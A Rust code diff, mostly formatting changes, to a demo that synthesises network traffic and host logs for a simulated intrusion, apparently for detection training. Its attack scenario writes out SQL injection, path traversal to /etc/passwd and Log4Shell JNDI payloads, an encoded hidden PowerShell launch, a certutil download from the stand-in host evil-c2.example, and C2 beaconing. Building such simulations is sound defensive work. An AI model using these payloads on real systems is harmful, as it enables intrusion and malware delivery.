@@ -34,7 +34,8 @@ const DOMAINS: &[&str] = &[
     "thuvienphapluat.vn",
 ];
 const C2_DOMAIN: &str = "evil-c2.example";
-const PATHS: &[&str] = &["/", "/tin-tuc/thong-bao.html", "/van-ban?id=1024", "/lien-he", "/static/app.js", "/api/v1/ho-so?page=2"];
+const PATHS: &[&str] =
+    &["/", "/tin-tuc/thong-bao.html", "/van-ban?id=1024", "/lien-he", "/static/app.js", "/api/v1/ho-so?page=2"];
 const AGENTS: &[&str] = &[
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
@@ -96,7 +97,9 @@ impl Demo {
                 clients: (0..12).map(|i| v4(10, net, 1, 20 + i)).collect(),
                 dns: v4(10, net, 0, 53),
                 web: v4(10, net, 0, 80),
-                hostnames: (0..12).map(|i| format!("{}-ws{:02}", if net == 10 { "bnv" } else { "cpnet" }, i + 1)).collect(),
+                hostnames: (0..12)
+                    .map(|i| format!("{}-ws{:02}", if net == 10 { "bnv" } else { "cpnet" }, i + 1))
+                    .collect(),
             }
         };
         Demo {
@@ -138,12 +141,28 @@ impl Demo {
         let port = self.next_port();
         let server = self.segments[seg].dns;
         let q = synth::udp_frame(&client, port, &server, 53, &synth::dns_query(id, name, 1));
-        let r = synth::udp_frame(&server, 53, &client, port, &synth::dns_response(id, name, 1, 0, &[DnsRr::A(name, answer, 300)]));
+        let r = synth::udp_frame(
+            &server,
+            53,
+            &client,
+            port,
+            &synth::dns_response(id, name, 1, 0, &[DnsRr::A(name, answer, 300)]),
+        );
         self.feed(seg, vec![q, r]);
     }
 
     #[allow(clippy::too_many_arguments)] // one call site per scenario; a struct would only rename them
-    fn http(&mut self, seg: usize, client: Host, server: Host, host: &str, path: &str, ua: &str, extra: &[(&str, &str)], status: u16) {
+    fn http(
+        &mut self,
+        seg: usize,
+        client: Host,
+        server: Host,
+        host: &str,
+        path: &str,
+        ua: &str,
+        extra: &[(&str, &str)],
+        status: u16,
+    ) {
         let port = self.next_port();
         let mut s = TcpSession::new(client, port, server, 80);
         let mut frames = s.handshake();
@@ -151,7 +170,12 @@ impl Demo {
         headers.extend_from_slice(extra);
         frames.push(s.client_send(&synth::http_request("GET", host, path, &headers)));
         let body = if status == 200 { "<html><body>Bo Noi vu</body></html>" } else { "not found" };
-        frames.push(s.server_send(&synth::http_response(status, if status == 200 { "OK" } else { "Not Found" }, "text/html; charset=utf-8", body.as_bytes())));
+        frames.push(s.server_send(&synth::http_response(
+            status,
+            if status == 200 { "OK" } else { "Not Found" },
+            "text/html; charset=utf-8",
+            body.as_bytes(),
+        )));
         frames.extend(s.close());
         self.feed(seg, frames);
     }
@@ -227,10 +251,29 @@ impl Demo {
                 self.tls(seg, client, remote, name);
             }
             match self.rng.random_range(0..4) {
-                0 => self.syslog(seg, "srv-web01", "sshd", 2211, "Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2"),
+                0 => self.syslog(
+                    seg,
+                    "srv-web01",
+                    "sshd",
+                    2211,
+                    "Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2",
+                ),
                 1 => self.syslog(seg, "srv-web01", "CRON", 3100, "(root) CMD (/usr/local/bin/backup.sh)"),
-                2 => self.sysmon_process(seg, &host, "BNV\\nhanvien", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"chrome.exe\" --type=renderer", "C:\\Windows\\explorer.exe"),
-                _ => self.syslog(seg, "fw-edge01", "kernel", 0, "IN=eth0 OUT= SRC=198.51.100.23 DST=10.10.0.80 PROTO=TCP DPT=23 blocked"),
+                2 => self.sysmon_process(
+                    seg,
+                    &host,
+                    "BNV\\nhanvien",
+                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+                    "\"chrome.exe\" --type=renderer",
+                    "C:\\Windows\\explorer.exe",
+                ),
+                _ => self.syslog(
+                    seg,
+                    "fw-edge01",
+                    "kernel",
+                    0,
+                    "IN=eth0 OUT= SRC=198.51.100.23 DST=10.10.0.80 PROTO=TCP DPT=23 blocked",
+                ),
             }
         }
     }
@@ -248,7 +291,16 @@ impl Demo {
         let sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)";
         self.http(0, attacker, web, "portal.moha.gov.vn", "/van-ban?id=1'%20OR%20'1'='1", sqlmap, &[], 500);
         self.http(0, attacker, web, "portal.moha.gov.vn", "/tai-lieu?file=../../../../etc/passwd", AGENTS[1], &[], 404);
-        self.http(0, attacker, web, "portal.moha.gov.vn", "/", "${jndi:ldap://203.0.113.66:1389/a}", &[("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")], 200);
+        self.http(
+            0,
+            attacker,
+            web,
+            "portal.moha.gov.vn",
+            "/",
+            "${jndi:ldap://203.0.113.66:1389/a}",
+            &[("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")],
+            200,
+        );
         // A CPNET workstation: encoded PowerShell, certutil download, then the C2 domain.
         let ci = self.rng.random_range(0..self.segments[1].clients.len());
         let victim = self.segments[1].clients[ci];
@@ -256,10 +308,22 @@ impl Demo {
         self.sysmon_process(1, &host, "CPNET\\chuyenvien", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
             "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
-        self.sysmon_process(1, &host, "CPNET\\chuyenvien", "C:\\Windows\\System32\\certutil.exe",
+        self.sysmon_process(
+            1,
+            &host,
+            "CPNET\\chuyenvien",
+            "C:\\Windows\\System32\\certutil.exe",
             "certutil.exe -urlcache -split -f http://evil-c2.example/payload.bin C:\\Users\\Public\\p.bin",
-            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
-        self.sysmon_process(1, &host, "CPNET\\chuyenvien", "C:\\Windows\\System32\\whoami.exe", "whoami /all", "C:\\Windows\\System32\\cmd.exe");
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        );
+        self.sysmon_process(
+            1,
+            &host,
+            "CPNET\\chuyenvien",
+            "C:\\Windows\\System32\\whoami.exe",
+            "whoami /all",
+            "C:\\Windows\\System32\\cmd.exe",
+        );
         let c2 = v4(198, 51, 100, 77);
         self.dns(1, victim, C2_DOMAIN, Ipv4Addr::new(198, 51, 100, 77));
         self.tls(1, victim, c2, C2_DOMAIN);
